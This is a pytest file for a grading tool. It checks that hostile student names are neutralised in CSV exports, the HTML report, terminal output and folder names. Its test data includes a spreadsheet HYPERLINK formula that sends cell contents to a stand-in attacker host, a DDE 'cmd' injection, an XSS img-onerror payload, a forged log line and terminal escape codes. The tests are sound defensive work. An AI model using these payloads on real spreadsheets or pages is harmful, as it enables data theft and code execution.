"""Names are data, not markup: what students control (their LMS display name becomes a download folder's
name; a roster carries it) cannot start a spreadsheet formula in a CSV, inject HTML into the report, or
forge a line on the terminal. One sanitiser (grader.text.clean) for every name, csv_cell for every CSV
cell, html for every page."""

import csv
import io
import json

import pytest

from grader import cli
from grader.chapter import TOTAL_POINTS
from grader.cohort import lms_names
from grader.cohort.progress import Progress
from grader.cohort.submissions import collect
from grader.judging import results_json
from grader.judging.model import SubmissionResult
from grader.judging.model import TestResult as Verdict
from grader.text import PLAIN_ID, clean, csv_cell, safe_name

FORMULA = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")"
FORGED = "mallory\n[9/9] graded mallory: 100/100 in 1.0s, ETA 0:00"
MARKUP = "<img src=x onerror=alert(1)>"
HOSTILE = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tleading tab", "\rleading cr", FORGED, MARKUP,
           "bidi\u202egnp.exe", "esc\x1b[2Jclear"]
STARTS_A_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def test_one_sanitiser_for_names():
    for name in HOSTILE:
        cleaned = clean(name)
        assert "\n" not in cleaned and "\r" not in cleaned and "\x1b" not in cleaned and "\u202e" not in cleaned
        assert "\t" not in cleaned and cleaned == cleaned.strip()
        assert not safe_name(name).startswith(("-", ".", "=", "+", "@"))
    assert clean("Zoë  Núñez") == "Zoë Núñez" and len(clean("x" * 1000)) == 200


def test_csv_cells_that_start_a_formula_are_neutralised():
    for name in HOSTILE:
        assert not csv_cell(name).startswith(STARTS_A_FORMULA)
    assert csv_cell("12.5") == "12.5" and csv_cell("-3") == "-3" and csv_cell("-") == "-"
    assert csv_cell("Doe, Jane") == "Doe, Jane" and csv_cell(7) == 7


def hostile_download(folder):
    """A Moodle download whose folder names carry the hostile display names (Linux allows all but '/')."""
    for number, name in enumerate(HOSTILE):
        entry = folder / f"{name.replace('/', '_')}_{700000 + number}_assignsubmission_file"  # as Moodle drops '/'
        entry.mkdir()
        (entry / "attention.py").write_text("x = 1\n")
    evil = folder / f"{FORGED.replace('/', '_')}_799999_assignsubmission_onlinetext"
    evil.mkdir()
    (evil / "onlinetext.html").write_text("<p>hi</p>")
    return folder


def test_names_from_lms_folders_go_through_the_sanitiser(tmp_path):
    collected = collect(hostile_download(tmp_path))
    assert len(collected.submissions) == len(HOSTILE)
    for name, _ in collected.submissions:
        assert name == safe_name(name) and not name.startswith(STARTS_A_FORMULA) and "\n" not in name
        assert "<" not in name and ">" not in name
    for origin in collected.origins.values():
        assert origin.student == clean(origin.student)
    assert all("\n" not in problem for problem in collected.problems)
    lines = io.StringIO()
    progress = Progress(len(collected.submissions), stream=lines)
    for name, _ in collected.submissions:
        progress.advance(name, 0.0, TOTAL_POINTS, 0.1)
    assert len(lines.getvalue().splitlines()) == len(HOSTILE)  # one progress line per submission, no forged one
    assert "[9/9]" not in lines.getvalue()


def fake_result(name, score, suite):
    tests, left = [], score
    for test in suite:
        earned = min(test.points, left)
        left -= earned
        tests.append(Verdict(test.name, test.step, earned, test.points, "", test.visibility))
    return SubmissionResult(name, f"{name}.py", tests)


@pytest.fixture
def hostile_class(tmp_path, suite, maxima):
    """A graded class whose students' names (LMS display names, roster names) are all hostile."""
    out = tmp_path / "out"
    graded, origins, roster = [], {}, io.StringIO()
    writer = csv.writer(roster)
    writer.writerow(["Student", "ID", "SIS User ID", "SIS Login ID", "Section"])
    for number, name in enumerate(HOSTILE):
        user = str(5000 + number)
        result = fake_result(safe_name(f"{name}_{user}"), 10 * number, suite)
        graded.append(result)
        results_json.write_results_json(result, maxima, out / "results" / f"{result.name}.json")
        origins[result.name] = lms_names.Origin("canvas", user, clean(name), number % 2 == 0, "attention.py").as_dict()
        writer.writerow([name, user, f"=S{user}", f"@{user}", MARKUP])
    writer.writerow([FORMULA + " (no submission)", "5999", "", "", ""])
    record = {"origins": origins, "roster": {"file": "roster.csv", "text": roster.getvalue()},
              "overrides": [{"student": graded[1].name, "step": "total", "points": 1.0, "reason": FORMULA}]}
    return out, graded, record


def test_csv_files_html_and_terminal_lines_are_safe(hostile_class, maxima, capsys):
    out, graded, record = hostile_class
    cli.write_class_files(out, graded, maxima, record)
    printed = capsys.readouterr()
    for name in ("grades.csv", "canvas_grades.csv", "moodle_grades.csv"):
        with open(out / name, newline="", encoding="utf-8") as stream:
            for row in csv.reader(stream):
                for cell in row:  # (a plain id such as `@5000`, a Banner id's form, calls nothing: kept for imports)
                    assert not cell.startswith(STARTS_A_FORMULA) or cell.lstrip("-").replace(".", "").isdigit() or \
                        (name != "grades.csv" and PLAIN_ID.fullmatch(cell) and not cell.startswith("=")), (name, cell)
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "\u202e" not in page and "\x1b" not in page
    for line in (printed.out + printed.err).splitlines():
        assert not line.startswith("[9/9]"), line
    assert "did not submit: 1" in printed.out
    saved = json.loads((out / "class.json").read_text(encoding="utf-8"))
    assert all("\n" not in student["name"] for student in saved["students"])


def test_the_nbgrader_export_neutralises_formulas_as_the_kit_does():
    pytest.importorskip("nbgrader")
    from grader.integrations import nbgrader_export

    for text in (*HOSTILE, "12.5", "-3", "-", "Doe, Jane", "Núñez, Jr."):
        assert nbgrader_export.csv_cell(text) == csv_cell(text), text
